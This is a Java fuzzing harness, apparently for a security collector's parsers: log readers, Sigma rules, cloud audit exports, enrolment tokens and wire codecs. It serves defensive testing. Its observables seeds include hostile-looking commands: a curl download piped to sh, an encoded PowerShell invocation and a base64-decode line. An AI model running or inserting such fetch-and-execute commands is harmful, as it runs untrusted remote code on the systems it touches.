package bzh.vigie.collector.fuzz;

import bzh.vigie.collector.detect.cloud.CloudExport;
import bzh.vigie.collector.detect.cloud.CloudReading;
import bzh.vigie.collector.detect.cloud.CloudRow;
import bzh.vigie.collector.detect.cloud.RowDates;
import bzh.vigie.collector.detect.sigma.CompiledRules;
import bzh.vigie.collector.detect.sigma.LogSource;
import bzh.vigie.collector.detect.sigma.PlainRules;
import bzh.vigie.collector.detect.sigma.RuleReader;
import bzh.vigie.collector.detect.sigma.SigmaRecord;
import bzh.vigie.collector.evtx.EvtxFuzz;
import bzh.vigie.collector.hunt.Parsed;
import bzh.vigie.collector.hunt.QueryParser;
import bzh.vigie.collector.incident.HostListReader;
import bzh.vigie.collector.incident.PasswordListReader;
import bzh.vigie.collector.incident.WitnessReader;
import bzh.vigie.collector.intel.IntelFuzz;
import bzh.vigie.collector.store.AgentId;
import bzh.vigie.collector.store.ExpectedHosts.Role;
import bzh.vigie.enrol.EnrolmentToken;
import bzh.vigie.enrol.InvalidToken;
import bzh.vigie.event.Event;
import bzh.vigie.observable.Addresses;
import bzh.vigie.observable.Observables;
import bzh.vigie.watchlist.LocalWatchlist;
import bzh.vigie.wire.EventCodec;
import bzh.vigie.wire.MalformedBatchException;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.stream.Stream;

/**
 * Readers of the collector, and the wire from both sides, that take bytes of others: one of them under Jazzer, named by
 * {@code -Dvigie.fuzz-reader}. Whatever the bytes are, nothing may be thrown but the refusal that the reader declares, and what a target says of
 * its result has to hold.
 */
public final class Fuzz {
    private static final Path CORPORA = Path.of(System.getProperty("vigie.corpora", "../shared/corpora"));
    private static final Instant NOW = Instant.parse("2026-12-01T12:00:00Z");
    private static final ZoneId PARIS = ZoneId.of("Europe/Paris");
    /** Of the many rules of SigmaHQ every so manieth is a seed. */
    private static final int EVERY_RULE = 12;

    private static final SigmaRecord RECORD = SigmaRecord.of(new LogSource("windows", "process_creation", ""))
            .put("Image", "C:\\Windows\\System32\\cmd.exe")
            .put("CommandLine", "cmd.exe /c whoami")
            .build();

    /**
     * A reader.
     *
     * @param name tells it from others
     * @param seeds what Jazzer begins with
     */
    record Target(String name, Reader reader, Seeds seeds) {}

    /** Reads bytes of others. */
    @FunctionalInterface
    interface Reader {
        void read(byte[] bytes) throws Exception;
    }

    /** Gives what Jazzer begins with; of others' material only what is there. */
    @FunctionalInterface
    interface Seeds {
        List<byte[]> all() throws IOException;
    }

    static final List<Target> TARGETS = List.of(
            new Target("evtx", EvtxFuzz::fuzzerTestOneInput, () -> EvtxFuzz.seeds(CORPORA)),
            new Target("intel", IntelFuzz::fuzzerTestOneInput, () -> IntelFuzz.seeds(CORPORA)),
            new Target("query", Fuzz::query, () -> texts("""
                    commune:35001 and (image:*\\cmd.exe or not user:"root") received:>=2026-11-01
                    """, """
                    ou (port:80..443 et address:192.0.2.0/24) host:pc-* -24h
                    """)),
            new Target("sigma", Fuzz::sigma, Fuzz::rules),
            new Target("cloud", Fuzz::cloud, () -> texts("""
                    [{"createdDateTime":"2026-11-02T08:15:00Z","userPrincipalName":"lea@example.org","ipAddress":"192.0.2.7",
                    "status":{"errorCode":0},"clientAppUsed":"IMAP4"}]
                    """, """
                    CreationDate,UserIds,Operations,AuditData
                    2026-11-02T08:15:00Z,lea@example.org,New-InboxRule,"{""Operation"":""New-InboxRule"",""Parameters"":[]}"
                    """, """
                    {"CreationTime":"2026-11-02T08:15:00","Operation":"Add member to role.","UserId":"a@example.org"}
                    {}
                    """)),
            new Target("witness", Fuzz::witness, () -> texts("""
                    OpenVPN CLIENT LIST
                    Updated,2026-11-02 09:00:00
                    Common Name,Real Address,Bytes Received,Bytes Sent,Connected Since
                    lea,203.0.113.9:51000,10,20,2026-11-02 08:15:00
                    ROUTING TABLE
                    END
                    """, """
                    id=firewall time="2026-11-02 07:16:40" fw="SN210" tz=+0000 user="lea" src=203.0.113.9 error=0 msg="User authenticated"
                    """, """
                    date;utilisateur;adresse
                    02/11/2026 08:15;lea;203.0.113.9
                    """)),
            new Target("passwords", Fuzz::passwords, () -> texts("""
                    "SamAccountName","Enabled","PasswordLastSet","ObjectClass"
                    "lea","True","02/11/2026 08:15:00","user"
                    """)),
            new Target("hosts", Fuzz::hosts, () -> texts("""
                    Name;OperatingSystem
                    PC-12;Windows 11 Professionnel
                    """, """
                    PC-1
                    PC-2
                    """)),
            new Target("token", Fuzz::token, () -> texts(EnrolmentToken.PREFIX + "AAAAAAAAAAAA")),
            new Target("wire-events", Fuzz::events, Fuzz::batches),
            new Target(
                    "wire-watchlist",
                    Fuzz::watchlist,
                    () -> List.of(
                            LocalWatchlist.of(List.of(new LocalWatchlist.Value(LocalWatchlist.Kind.TASK, "Updater")))
                                    .entries())),
            new Target(
                    "observables",
                    Fuzz::observables,
                    () -> texts(
                            "curl -s http://203.0.113.9/a | sh",
                            "powershell -enc SQBFAFgA",
                            "echo aHR0cDovLzIwMy4wLjExMy45Cg== | base64 -d")));

    private Fuzz() {}

    /** One input of the reader that is named. */
    public static void fuzzerTestOneInput(byte[] data) throws Exception {
        Wanted.TARGET.reader().read(data);
    }

    /** Writes the seeds of the reader that is named into a folder. */
    public static void main(String[] arguments) throws IOException {
        Path folder = Files.createDirectories(Path.of(arguments[0]));
        int number = 0;
        for (byte[] seed : Wanted.TARGET.seeds().all()) {
            Files.write(folder.resolve("seed-" + number++), seed);
        }
    }

    private static final class Wanted {
        static final Target TARGET = TARGETS.stream()
                .filter(target -> target.name().equals(System.getProperty("vigie.fuzz-reader", "")))
                .findFirst()
                .orElseThrow(() -> new IllegalArgumentException("no such reader: -Dvigie.fuzz-reader"));
    }

    private static void query(byte[] bytes) {
        Parsed parsed = QueryParser.parse(text(bytes), NOW);
        if (parsed instanceof Parsed.Fault fault
                && fault.sentence(Locale.FRENCH).isBlank()) {
            throw new IllegalStateException("refused without a word");
        }
    }

    private static void sigma(byte[] bytes) {
        RuleReader.Content content = RuleReader.read("a.yml", text(bytes));
        List<String> compiled = new CompiledRules(content.rules())
                .judge(RECORD).stream().map(match -> match.rule().card().id()).toList();
        List<String> plain = new PlainRules(content.rules())
                .judge(RECORD).stream().map(match -> match.rule().card().id()).toList();
        if (!compiled.equals(plain)) {
            throw new IllegalStateException("compiled " + compiled + ", plain " + plain);
        }
    }

    private static void cloud(byte[] bytes) throws IOException {
        CloudReading reading = new CloudReading(
                new PlainRules(List.of()), record -> true, new AgentId("00000000-0000-0000-0000-000000000000"));
        CloudExport.read(new ByteArrayInputStream(bytes), new RowDates(Optional.empty()), new CloudExport.Taker() {
            @Override
            public void row(CloudRow row) {
                reading.row(row);
            }

            @Override
            public void refused(int number, CloudExport.Problem why) {
                reading.refused(number, why);
            }
        });
    }

    private static void witness(byte[] bytes) {
        WitnessReader.Result read = WitnessReader.read(bytes, PARIS, Optional.empty(), OptionalInt.of(2026));
        bounded(bytes, read.lines().size());
    }

    private static void passwords(byte[] bytes) {
        PasswordListReader.read(bytes, PARIS);
    }

    private static void hosts(byte[] bytes) {
        bounded(bytes, HostListReader.read(bytes, Role.WORKSTATION).hosts().size());
    }

    private static void bounded(byte[] bytes, int rows) {
        if (rows > bytes.length) {
            throw new IllegalStateException(rows + " rows of " + bytes.length + " bytes");
        }
    }

    private static void token(byte[] bytes) {
        try {
            String pasted = text(bytes);
            EnrolmentToken token = EnrolmentToken.parse(pasted);
            if (!EnrolmentToken.parse(token.encode()).equals(token)) {
                throw new IllegalStateException("is another when it is read again: " + pasted);
            }
        } catch (InvalidToken refused) {
            if (refused.getMessage() == null) {
                throw new IllegalStateException("refused without a word", refused);
            }
        }
    }

    private static void events(byte[] bytes) throws MalformedBatchException {
        List<Event> events;
        try {
            events = EventCodec.decode(bytes);
        } catch (MalformedBatchException refused) {
            return;
        }
        if (!EventCodec.decode(EventCodec.encode(events)).equals(events)) {
            throw new IllegalStateException("are others when they are read again: " + events);
        }
    }

    private static void watchlist(byte[] bytes) {
        LocalWatchlist.read(LocalWatchlist.VERSION, new byte[LocalWatchlist.SALT], bytes)
                .ifPresent(list -> {
                    if (!Arrays.equals(list.entries(), bytes)) {
                        throw new IllegalStateException("is another when it is written again");
                    }
                });
    }

    private static void observables(byte[] bytes) {
        String text = text(bytes);
        int found = Observables.of(List.of(text)).size();
        if (found > Observables.MOST) {
            throw new IllegalStateException(found + " observables");
        }
        Addresses.in(text, true);
    }

    private static String text(byte[] bytes) {
        return new String(bytes, StandardCharsets.UTF_8);
    }

    private static List<byte[]> texts(String... texts) {
        return Stream.of(texts).map(t -> t.getBytes(StandardCharsets.UTF_8)).toList();
    }

    private static List<byte[]> rules() throws IOException {
        List<byte[]> rules = new ArrayList<>(texts("""
                title: a
                logsource: {product: windows, category: process_creation}
                detection:
                  s: {Image|endswith: '\\cmd.exe', CommandLine|re|i: 'who.*'}
                  condition: s
                """));
        Path folder = CORPORA.resolve("sigma-rules");
        if (Files.isDirectory(folder)) {
            int number = 0;
            try (Stream<Path> files = Files.walk(folder)) {
                for (Path file : files.filter(f -> f.toString().endsWith(".yml"))
                        .sorted()
                        .toList()) {
                    if (number++ % EVERY_RULE == 0) {
                        rules.add(Files.readAllBytes(file));
                    }
                }
            }
        }
        return rules;
    }

    private static List<byte[]> batches() throws IOException {
        List<byte[]> batches = new ArrayList<>();
        try (Stream<Path> files = Files.list(Path.of("../proto/src/test/resources/golden"))) {
            for (Path file : files.sorted().toList()) {
                batches.add(HexFormat.of().parseHex(Files.readString(file).strip()));
            }
        }
        return batches;
    }
}
